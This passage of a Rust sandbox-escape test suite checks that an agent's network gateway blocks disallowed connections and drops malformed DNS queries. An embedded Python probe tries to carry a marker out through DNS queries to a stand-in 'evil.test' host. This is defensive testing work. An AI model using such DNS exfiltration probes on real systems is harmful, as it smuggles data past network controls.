            "CONNECT to api.test's gateway address": ok("eof"),
            "SSH banner to api.test's gateway address": ok("eof"),
            "connect to api.test and close": ok("closed"),
            "the proxy on 127.0.0.2:3128": err(ECONNREFUSED),
            "allowed: api.test's gateway address": ok(json!([200, HELLO])),
            "allowed: CONNECT api.test": ok(json!([200, [200, HELLO]])),
        }),
    );
    c.assert_nothing_got_through(&run);
    api.expect(&run.label, 2, 0..=0);
    expect_connects(&run, "api.test", other, "denied:not_in_allowlist", 2);
    expect_connects(&run, "localhost", 3128, "denied:not_in_allowlist", 1);
    expect_connects(&run, "127.0.0.1", 3128, "denied:ip_literal", 1);
    expect_connects(&run, "127.0.0.53", 53, "denied:ip_literal", 1);
    // Refused before a name was read: no name, port 0.
    expect_connects(&run, "", 0, "denied:bad_request", 4);
    expect_connects(&run, "api.test", a, "denied:bad_request", 1);
    expect_connects(&run, "api.test", a, "denied:unknown_protocol", 1);
    expect_connects(&run, "api.test", a, "denied:closed_before_request", 1);
    expect_connects(&run, "api.test", a, "allowed", 2);
    assert_eq!(run.of_type("net.connect").len(), 14);
    run.expect_exec_recorded();
    run.expect_clean_end();
    // The controls are the two allowed probes above: the same helpers, with the allowed name and
    // port, reach the server (counted twice), through the gateway address and through the proxy.
}

// --- malformed DNS queries ----------------------------------------------------------------------

const DNS_MALFORMED: &str = r#"
evil = sys.argv[1]
marker = sys.argv[2].encode()
q = dnsq(evil, 16)
header, question = q[:12], q[12:]
second = dnsq("api.test", 1)[12:]
probes = {
    "garbage carrying the data": b"\x13\x37" + marker,
    "two questions": header[:4] + struct.pack(">H", 2) + header[6:] + question + second,
    "a response, not a query": header[:2] + struct.pack(">H", 0x8180) + header[4:] + question,
    "opcode STATUS": header[:2] + struct.pack(">H", 0x1100) + header[4:] + question,
    "class CH": header + question[:-2] + struct.pack(">H", 3),
    "well-formed TXT (control)": q,
}
# All sent at once, then one second for the answers (an answer on loopback takes milliseconds).
socks = {}
for name, payload in probes.items():
    s = socket.socket(A4, socket.SOCK_DGRAM)
    s.connect(AGENT_DNS)
    s.send(payload)
    socks[name] = s
deadline = time.monotonic() + 1
for name, s in socks.items():
    def answer():
        s.settimeout(max(0.01, deadline - time.monotonic()))
        try:
            return dns_reply(s.recv(4096))
        except TimeoutError:
            return "no reply"
    t(name, answer)
done()
"#;

/// Queries the agent cannot parse are dropped without an answer: nothing is forwarded, so
/// nothing leaves. `gateway::dns::DnsError::code` gives each parse failure "a stable code for the
/// audit record", so each dropped query must be a `net.dns` event denied with that code.
#[test]
fn malformed_dns_queries_get_no_answer_and_are_recorded() {
    require_root("escape suite");
    let c = Canaries::plant();
    let api = ApiServer::start();
    let uc = UdpCanary::bind();
    let marker = format!("malformed-{}", unique("dns")).replace('-', "x");
    let evil = format!("{marker}.evil.test");
    let sniffer = Sniffer::start(marker.as_bytes());
    let run = Sandbox::new("malformed dns")
        .with_canaries(&c)
        .policy(&allowlist_policy(api.port))
        .python(&format!("{NET}\n{DNS_MALFORMED}"), &[&evil, &marker]);
    expect_result(
        &run,
        &json!({
            "garbage carrying the data": ok("no reply"),
            "two questions": ok("no reply"),
            "a response, not a query": ok("no reply"),
            "opcode STATUS": ok("no reply"),
            "class CH": ok("no reply"),
            "well-formed TXT (control)": ok(json!([REFUSED, 0])),
        }),
    );
    c.assert_nothing_got_through(&run);
    assert_eq!(uc.datagrams(), 0, "the UDP canary got a datagram");
    api.expect(&run.label, 0, 0..=0);
    std::thread::sleep(Duration::from_millis(300));
    assert!(!sniffer.seen(), "the marker was seen on the host's network");
    assert_eq!(sniffer.drops(), 0, "the sniffer missed packets");
    expect_dns(&run, &evil, "TYPE16", "denied:not_in_allowlist");
    run.expect_exec_recorded();
    run.expect_clean_end();
    // The audit record of each dropped query (missing today: the agent drops a query that does
    // not parse before asking the supervisor, so the trail has no trace of these attempts).
    for code in [
        "dns:undecodable",
        "dns:question_count",
        "dns:not_a_query",
        "dns:not_standard_query",
        "dns:not_internet_class",
    ] {
        run.event("net.dns", |e| {
            e["decision"] == "denied" && e["reason"] == code
        });
    }
}
